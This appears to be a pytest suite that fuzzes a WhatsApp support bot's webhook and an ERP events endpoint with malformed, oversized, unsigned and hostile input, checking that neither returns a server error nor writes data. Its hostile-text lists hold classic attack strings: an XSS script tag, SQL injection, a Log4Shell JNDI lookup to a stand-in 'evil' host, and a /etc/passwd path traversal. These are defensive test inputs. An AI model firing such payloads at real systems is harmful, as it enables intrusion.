"""Malformed and hostile webhooks (and ERP events): never a 5xx; what is malformed enqueues and
writes nothing; what is hostile but well-formed (odd unicode, markup in names) is handled as text."""

from __future__ import annotations

import copy
import json

import pytest

from local.lambdas import load_function
from local.seed import seed_demo_data
from local.testing.apigw import http_event, webhook_event
from local.testing.whatsapp import Processor, evolution_text
from tests.faults.state import all_items, queue_depth

PHONE = "5511966660000"
BASE = evolution_text(PHONE, "BAD0", "oi")
TEN_MB = 10 * 1024 * 1024


def variants_of(path: tuple, values) -> list[dict]:
    out = []
    for value in values:
        payload = copy.deepcopy(BASE)
        target = payload
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value
        out.append(payload)
    return out


def without(path: tuple) -> dict:
    payload = copy.deepcopy(BASE)
    target = payload
    for key in path[:-1]:
        target = target[key]
    del target[path[-1]]
    return payload


WRONG = [None, 7, -1, 1.5, True, "", "x", [], [1], {}, {"a": 1}]
MALFORMED: list[str | dict] = [
    # not JSON
    "",
    " ",
    "{",
    "}",
    "[",
    "null",
    "true",
    "7",
    '"text"',
    "{'single': 'quotes'}",
    '{"event": }',
    "{" * 5000,
    "[" * 100000,
    '{"a": NaN}',
    "\x00\x01\x02",
    "<xml/>",
    "event=messages.upsert",
    '{"event": "messages.upsert"',
    '\ufeff{"event": 1}',
    '{"event": "messages.upsert", "data": {"key": {"id": "\\ud800"}}}',
    # truncated in transit: every prefix cut of the real body
    *[json.dumps(BASE)[:cut] for cut in range(1, len(json.dumps(BASE)), len(json.dumps(BASE)) // 25)],
    # events we do not take messages from
    *variants_of(
        ("event",),
        [
            "messages.update",
            "presence.update",
            "contacts.upsert",
            "chats.set",
            "send.message",
            "call",
            "groups.upsert",
            "x" * 1000,
            "messages.upsert\x00",
        ],
    ),
    # deletes for everyone that name no requester's message: the bot's own, a group's, no key
    *[
        {"event": "MESSAGES_DELETE", "instance": BASE["instance"], "data": data}
        for data in (
            {**BASE["data"]["key"], "fromMe": True},
            {**BASE["data"]["key"], "remoteJid": "123@g.us"},
            {"id": "BAD0"},
            None,
        )
    ],
    # a 10 MB body that is not an event
    '{"event": "messages.upsert", "instance": "suporte", "data": "' + "A" * TEN_MB + '"}',
    "x" * TEN_MB,
    # wrong types, field by field
    *variants_of(("event",), WRONG),
    *variants_of(("instance",), [None, 7, [], {}, ""]),
    *variants_of(("data",), [None, 7, "x", [1, "a"], [None]]),
    *variants_of(("data", "key"), [None, 7, "x", []]),
    *variants_of(("data", "key", "remoteJid"), [None, 7, [], "", "not-a-jid", "@s.whatsapp.net", "123@g.us"]),
    *variants_of(("data", "key", "id"), [None, 7, [], ""]),
    # missing fields
    *[
        without(path)
        for path in (
            ("event",),
            ("instance",),
            ("data",),
            ("data", "key"),
            ("data", "message"),
            ("data", "key", "remoteJid"),
            ("data", "key", "id"),
        )
    ],
]
# Wrong types inside a message (not its envelope): the message is taken as one the bot does not
# understand, or refused; never a 5xx, and what is enqueued is processed without failing.
ODD_CONTENT: list[dict] = [
    *variants_of(("data", "message"), [None, 7, "x", [], {}]),
    *variants_of(("data", "message", "conversation"), [None, 7, [], {}]),
    *variants_of(("data", "messageTimestamp"), ["abc", [], {}, None]),
    *variants_of(("data", "key", "fromMe"), ["yes", 7, None]),
    *variants_of(("data", "pushName"), [7, [], {}, None]),
]
HOSTILE_TEXTS = [
    "<script>alert('x')</script>",
    "'; DROP TABLE tickets; --",
    "{{7*7}} ${jndi:ldap://evil/a}",
    "\u202eabc\u202c",
    "\u200b\u200d\ufeff",
    "e\u0301" * 500,
    "🧑🏽‍💻" * 200,
    "\x00nul",
    "ｆｕｌｌｗｉｄｔｈ",
    "A" * 65536,
    "\n" * 1000,
    "%s%n%x",
    "../../etc/passwd",
    "\\u0000",
]
HOSTILE_NAMES = [
    "<img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE--",
    "\u202eevil",
    "😀" * 100,
    "",
    "A" * 5000,
]


@pytest.fixture
def webhook(aws):
    seed_demo_data()
    return load_function("WebhookFunction")


def test_malformed_webhooks_never_5xx_and_change_nothing(aws, webhook, figures):
    before = all_items(aws)
    statuses = []
    for body in MALFORMED:
        response = webhook.invoke(webhook_event(body))
        statuses.append(response["statusCode"])
        assert response["statusCode"] < 500, (str(body)[:200], response)
        assert queue_depth(aws) == 0, str(body)[:300]
    for body in ("", "{", "x" * TEN_MB):  # the Cloud API webhook, unsigned junk
        response = webhook.invoke(webhook_event(body, path="/webhooks/cloud"))
        statuses.append(response["statusCode"])
        assert response["statusCode"] < 500
    # The right body with a wrong or missing token.
    for token in ("", "wrong", "test-webhook-token " * 100):
        response = webhook.invoke(webhook_event(BASE, token=token))
        statuses.append(response["statusCode"])
        assert response["statusCode"] == 401
    assert queue_depth(aws) == 0
    assert all_items(aws) == before
    assert not aws.session.client("s3").list_objects_v2(Bucket=aws.bucket).get("Contents")
    assert len(statuses) >= 100
    figures(
        "bad input (webhook)",
        f"{len(statuses)} malformed or unauthenticated webhooks: statuses "
        f"{dict(sorted({s: statuses.count(s) for s in statuses}.items()))}; enqueued 0, written 0",
    )


def test_odd_message_content_never_5xx_and_never_fails_the_processor(aws, webhook, figures):
    processor = Processor(aws)
    statuses = []
    for n, payload in enumerate(ODD_CONTENT):
        payload = copy.deepcopy(payload)
        payload["data"]["key"]["id"] = f"ODD{n}"
        if isinstance(payload["data"]["key"].get("remoteJid"), str):
            payload["data"]["key"]["remoteJid"] = f"55119668{n:05d}@s.whatsapp.net"
        response = webhook.invoke(webhook_event(payload))
        statuses.append(response["statusCode"])
        assert response["statusCode"] < 500, (payload["data"], response)
    handled = processor.drain(rounds=200)
    assert queue_depth(aws) == 0  # nothing failed
    figures(
        "bad input (odd content)",
        f"{len(ODD_CONTENT)} messages with wrong-typed content: statuses "
        f"{dict(sorted({s: statuses.count(s) for s in statuses}.items()))}; {handled} enqueued, all processed "
        f"without failure",
    )


def test_hostile_but_well_formed_messages_are_handled_as_text(aws, webhook, figures):
    processor = Processor(aws)
    cases = [(f"55119666{n:05d}", text, "Maria") for n, text in enumerate(HOSTILE_TEXTS)]
    cases += [(f"55119667{n:05d}", "oi", name) for n, name in enumerate(HOSTILE_NAMES)]
    for n, (phone, text, name) in enumerate(cases):
        response = webhook.invoke(webhook_event(evolution_text(phone, f"HOSTILE{n}", text, push_name=name)))
        assert response["statusCode"] < 500, (text[:50], response)
    processor.drain(rounds=200)
    assert queue_depth(aws) == 0  # every message handled, none failed
    answered = {phone for _, phone, _ in processor.gateway.sent}
    assert answered == {phone for phone, _, _ in cases}
    figures(
        "bad input (hostile text)",
        f"{len(cases)} well-formed hostile messages (markup, injection, unicode, "
        f"64 KB text, odd names): all answered, none failed",
    )


def test_malformed_erp_events_never_5xx_and_write_nothing(aws, figures):
    erp_routes = load_function("ErpFunction").spec.code_dir / "erp_routes.py"
    if not erp_routes.read_text().strip():
        pytest.skip("POST /erp/events is not implemented yet")
    import hashlib
    import hmac
    import time

    seed_demo_data()
    erp = load_function("ErpFunction")
    before = all_items(aws)
    secret = "test-erp-secret"

    def signed(body: str, *, good: bool = True, stale: bool = False) -> dict:
        timestamp = str(int(time.time()) - (3600 if stale else 0))
        digest = hmac.new(secret.encode(), f"{timestamp}.{body}".encode(), hashlib.sha256).hexdigest()
        headers = {"X-Timestamp": timestamp, "X-Signature": f"sha256={digest if good else '0' * 64}"}
        return http_event("POST", "/erp/events", body=body, headers=headers)

    bodies = [
        "",
        "{",
        "[]",
        "null",
        '{"type": 7}',
        '{"type": "action.created"}',
        "x" * TEN_MB,
        json.dumps({"type": "action.created", "event_id": "e1", "ticket_number": "abc", "text": "oi"}),
        json.dumps({"type": "action.created", "event_id": "../../x", "ticket_number": 1}),
        json.dumps({"type": "ticket.closed", "event_id": "e2", "ticket_number": 999999}),
        json.dumps({"type": "action.created", "event_id": "e3", "ticket_number": 1, "text": 7}),
        json.dumps(
            {
                "type": "action.created",
                "event_id": "e4",
                "ticket_number": 1,
                "attachments": [{"filename": "a", "content_base64": "!!!"}],
            }
        ),
    ]
    statuses = []
    for body in bodies:
        for event in (
            signed(body),
            signed(body, good=False),
            signed(body, stale=True),
            http_event("POST", "/erp/events", body=body),
        ):
            response = erp.invoke(event)
            statuses.append(response["statusCode"])
            assert response["statusCode"] < 500, (body[:100], response)
    assert [i for i in all_items(aws) if i not in before] == []
    figures(
        "bad input (ERP events)",
        f"{len(statuses)} malformed, forged, stale or unsigned ERP events: statuses "
        f"{dict(sorted({s: statuses.count(s) for s in statuses}.items()))}; written 0",
    )


def test_a_ten_megabyte_text_is_cut_to_whatsapps_limit_not_a_5xx(aws, webhook, figures):
    processor = Processor(aws)
    huge = "Á" * (TEN_MB // 2 - 1000)  # 10 MB of UTF-8
    response = webhook.invoke(webhook_event(evolution_text("5511955550000", "HUGE", huge)))
    assert response["statusCode"] == 200
    processor.drain()
    assert queue_depth(aws) == 0 and processor.gateway.texts_to("5511955550000")
    figures(
        "bad input (10 MB text)", "accepted with its text cut to WhatsApp's limit, answered, nothing failed"
    )
